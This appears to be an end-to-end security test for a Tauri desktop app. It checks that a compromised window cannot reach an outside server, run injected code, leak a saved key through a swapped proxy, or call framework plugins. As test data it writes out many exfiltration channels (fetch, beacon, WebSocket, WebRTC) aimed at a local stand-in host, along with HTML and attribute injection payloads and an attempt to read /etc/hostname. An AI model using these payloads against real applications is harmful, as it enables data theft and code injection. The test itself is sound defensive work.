import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import type { App } from "./harness/app.ts";
import { until } from "./harness/processes.ts";
import { Screen } from "./harness/screen.ts";
import { setUp } from "./harness/set-up.ts";

/** Commands of the framework and its plugins that a window could call if permitted. */
const COMMANDS = [
  "plugin:app|version",
  "plugin:app|set_app_theme",
  "plugin:deep-link|get_current",
  "plugin:dialog|open",
  "plugin:event|listen",
  "plugin:log|log",
  "plugin:menu|new",
  "plugin:opener|open_path",
  "plugin:opener|open_url",
  "plugin:path|resolve_directory",
  "plugin:resources|close",
  "plugin:store|load",
  "plugin:tray|new",
  "plugin:updater|check",
  "plugin:updater|download_and_install",
  "plugin:webview|create_webview_window",
  "plugin:webview|internal_toggle_devtools",
  "plugin:window-state|save_window_state",
  "plugin:window|destroy",
  "plugin:window|set_title",
];

describe("a compromised window", () => {
  const on = setUp();
  const asked: string[] = [];
  const elsewhere = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("");
  });
  elsewhere.on("clientError", (_, socket) => {
    asked.push("not in HTTP");
    socket.destroy();
  });
  let address: string;
  before(async () => {
    await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
    address = `http://127.0.0.1:${(elsewhere.address() as { port: number }).port}`;
  });
  after(() => elsewhere.close());

  async function open(): Promise<App> {
    const app = await on.machine.openApp();
    await new Screen(app).connect("My pages", on.service);
    return app;
  }

  it("reaches no computer, runs no text as a program, and goes nowhere", async () => {
    // Proves that the server records requests.
    await fetch(`${address}/allowed`);
    const app = await open();
    const before = await app.browser.getUrl();
    const ran = await app.browser.execute(async (elsewhere: string) => {
      const add = <K extends keyof HTMLElementTagNameMap>(name: K, set: Partial<HTMLElementTagNameMap[K]>) =>
        document.body.append(Object.assign(document.createElement(name), set));
      const tries: Record<string, () => unknown> = {
        fetch: () => fetch(`${elsewhere}/fetch`),
        beacon: () => navigator.sendBeacon(`${elsewhere}/beacon`, "all of it"),
        socket: () => new WebSocket(`${elsewhere.replace("http", "ws")}/socket`),
        events: () => new EventSource(`${elsewhere}/events`),
        worker: () => new Worker(`${elsewhere}/worker`),
        image: () => add("img", { src: `${elsewhere}/image` }),
        script: () => add("script", { src: `${elsewhere}/script` }),
        style: () => add("link", { rel: "stylesheet", href: `${elsewhere}/style` }),
        frame: () => add("iframe", { src: `${elsewhere}/frame` }),
        object: () => add("object", { data: `${elsewhere}/object` }),
        form: () => {
          add("form", { action: `${elsewhere}/form`, method: "post" });
          document.forms[document.forms.length - 1]?.submit();
        },
        window: () => window.open(`${elsewhere}/window`),
        inline: () => add("script", { textContent: "window.ran = 'inline'" }),
        handler: () => {
          document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror=\"window.ran = 'handler'\">");
        },
        eval: () => new Function("window.ran = 'eval'")(),
        link: () => {
          const link = Object.assign(document.createElement("a"), { href: "javascript:window.ran='link'" });
          document.body.append(link);
          link.click();
        },
        // The content policy doesn't cover WebRTC.
        webrtc: async () => {
          const urls = `${elsewhere.replace("http://", "turn:")}?transport=tcp`;
          const peer = new RTCPeerConnection({ iceServers: [{ urls, username: "x", credential: "x" }] });
          peer.createDataChannel("x");
          await peer.setLocalDescription(await peer.createOffer());
        },
        away: () => location.assign(`${elsewhere}/away`),
      };
      for (const act of Object.values(tries)) {
        try {
          await act();
        } catch {
          // Blocked.
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 1500));
      return (window as { ran?: string }).ran ?? null;
    }, address);
    assert.equal(ran, null);
    assert.deepEqual(asked, ["/allowed"]);
    assert.equal(await app.browser.getUrl(), before);
  });

  /** Starts a call; its outcome stays in the window until requested. */
  const begin = (app: App, call: string, request: unknown) =>
    app.browser.execute(
      (call, request) => {
        type Internals = { invoke: (command: string, request: object) => Promise<unknown> };
        const { invoke } = (window as unknown as { __TAURI_INTERNALS__: Internals }).__TAURI_INTERNALS__;
        const kept = window as unknown as { outcome: unknown };
        kept.outcome = null;
        invoke(call, { request, ticket: { number: 0 } }).then(
          (answer) => {
            kept.outcome = { answer };
          },
          (refused: unknown) => {
            kept.outcome = { code: (refused as { code?: string }).code ?? String(refused) };
          },
        );
      },
      call,
      request,
    );

  const outcome = (app: App) =>
    until("the outcome of a call", () =>
      app.browser.execute(() => (window as unknown as { outcome: { answer?: unknown; code?: string } | null }).outcome),
    );

  const draft = (more: object) => ({
    id: null,
    name: "x",
    base_url: "https://seo.invalid",
    allow_insecure: false,
    key: "k",
    key_place: "memory",
    service: null,
    ...more,
  });
  const way = { proxy: { kind: "system" }, certificates: { kind: "kept" } };
  const network = { ...way, connect_seconds: 5, read_seconds: 5, write_seconds: 5 };

  it("needs the user's consent for a first contact, and for deleting all data", async () => {
    const app = await open();
    for (const [call, request] of [
      ["connection_test", draft({ network })],
      ["connection_save", draft({ network })],
      ["connection_save", draft({ network: { ...network, proxy: { kind: "own", address: "proxy.invalid:3128" } } })],
      ["source_preview", { source: { kind: "sitemap", address: "https://seo.invalid/sitemap.xml?all=of+it" } }],
      ["data_remove", { leave_keys: false }],
    ] as const) {
      await begin(app, call, request);
      await app.answer(false);
      assert.equal((await outcome(app)).code, "canceled", call);
    }
    assert.ok(app.isRunning);
    await begin(app, "connections_list", null);
    assert.equal(((await outcome(app)).answer as unknown[]).length, 1, "nothing was saved or removed");
  });

  it("sends a saved key no other way, names no file, and is no faster than people", async () => {
    const app = await open();
    asked.length = 0;
    await begin(app, "connections_list", null);
    const [saved] = (await outcome(app)).answer as { id: string; base_url: string }[];
    assert.ok(saved);
    const evil = { kind: "own", address };
    for (const more of [{ proxy: evil }, { proxy: evil, certificates: { kind: "none" } }]) {
      const { id, base_url } = saved;
      const changed = draft({ id, base_url, allow_insecure: true, key: null, network: { ...network, ...more } });
      await begin(app, "connection_test", changed);
      assert.match(JSON.stringify((await outcome(app)).answer), /other_way/);
      await begin(app, "connection_save", changed);
      assert.equal((await outcome(app)).code, "invalid_input");
    }
    await begin(app, "connection_test", draft({ network: { ...network, ca_file: "/etc/hostname" } }));
    assert.match((await outcome(app)).code ?? "", /unknown field `ca_file`/);
    assert.deepEqual(asked, []);

    for (const [call, request, most] of [
      ["password_show", { connection: saved.id, id: "7" }, 30],
      // Invalid URLs must be refused as well.
      ["address_open", { url: "https://seo.invalid/?all=of+it" }, 20],
    ] as const) {
      const codes: (string | undefined)[] = [];
      for (let count = 0; count <= most; count++) {
        await begin(app, call, request);
        codes.push((await outcome(app)).code);
      }
      assert.deepEqual([codes.indexOf("too_often"), codes.at(-1)], [most, "too_often"], call);
    }
  });

  it("can leave nothing for the next start that runs, loads, or leads anywhere", async () => {
    let app = await open();
    const screen = new Screen(app);
    const place = (await screen.place()).slice(1);
    await until("the place to be kept", () => on.machine.filesWith(`"place":"${place}"`).length > 0);
    await begin(app, "library_revision", null);
    const revision = (await outcome(app)).answer;
    const [width, height, pixel_ratio] = await app.browser.execute(() => [innerWidth, innerHeight, devicePixelRatio]);
    const size = { width, height, pixel_ratio };
    const look = {
      place,
      language: "en",
      direction: "ltr",
      theme: "light",
      more_contrast: false,
      forced_colors: false,
    };
    const picture = (screen: object) => ({ look: { ...look, ...size }, revision, reads: [], screen });
    asked.length = 0;
    for (const part of [
      { tag: "script", children: ["window.ran = 'script'"] },
      { tag: "style", children: [`@import "${address}/style"`] },
      { tag: "link", attributes: { rel: "stylesheet", href: `${address}/link` } },
      { tag: "iframe", attributes: { src: `${address}/frame` } },
      { tag: "img", attributes: { src: "data:,", onerror: "window.ran = 'handler'" } },
      { tag: "form", attributes: { action: `${address}/form` } },
      { tag: "meta", attributes: { "http-equiv": "refresh", content: `0;${address}/meta` } },
      { tag: "div><script", children: [] },
      { tag: "a", attributes: { href: `${address}/link` } },
      { tag: "div", attributes: { onclick: "window.ran = 'click'" } },
      { tag: "div", attributes: { id: "root" } },
      { tag: "div", attributes: { "data-x onload": "window.ran = 'name'" } },
      { tag: "div", class: '"><script>' },
      { tag: "div", styles: { "background-image": `url(${address}/image)` } },
      { tag: "div", styles: { width: "1px}</style><script>" } },
      { tag: "input", attributes: { type: "password" } },
    ]) {
      await begin(app, "picture_save", picture({ tag: "div", children: [part] }));
      assert.equal((await outcome(app)).code, "invalid_input", JSON.stringify(part));
    }
    const text = `</div></script><script>window.ran = "text"</script><img src="${address}/text">`;
    const attributes = { "data-x": `"><script>window.ran = "attribute"</script>`, "aria-label": "<!--" };
    await begin(app, "picture_save", picture({ tag: "div", attributes, children: [text] }));
    assert.equal((await outcome(app)).answer, true);
    // Before the window keeps one of its own.
    await app.kill();

    app = await on.machine.openApp();
    await new Screen(app).lists(240);
    const [ran, sheets] = await app.browser.execute(() => [
      (window as { ran?: string }).ran ?? null,
      [...document.styleSheets].map(({ href }) => new URL(href ?? "").pathname),
    ]);
    assert.equal(ran, null);
    assert.ok((sheets as string[]).includes("/first-picture.css"), "the page came with the picture");
    assert.deepEqual(asked, []);
  });

  it("gets what it shows from the core, and nothing from the framework", async () => {
    const app = await open();
    const answers = await app.browser.execute(async (commands: string[]) => {
      type Internals = { invoke: (command: string, request: object) => Promise<unknown> };
      const { invoke } = (window as unknown as { __TAURI_INTERNALS__: Internals }).__TAURI_INTERNALS__;
      const ask = (command: string, request: object = {}) =>
        invoke(command, request).then(
          () => "answered",
          (refused) => String(refused),
        );
      const answers: Record<string, string> = {};
      for (const command of commands) answers[command] = await ask(command);
      answers.connections_list = await ask("connections_list", { request: null, ticket: { number: 0 } });
      answers.isFrozen = String(Object.isFrozen(Object.prototype));
      return answers;
    }, COMMANDS);
    assert.equal(answers.connections_list, "answered");
    assert.equal(answers.isFrozen, "true");
    // Refused by permissions, not because of the arguments.
    for (const command of COMMANDS) assert.match(answers[command] ?? "", /not allowed/, command);
  });
});
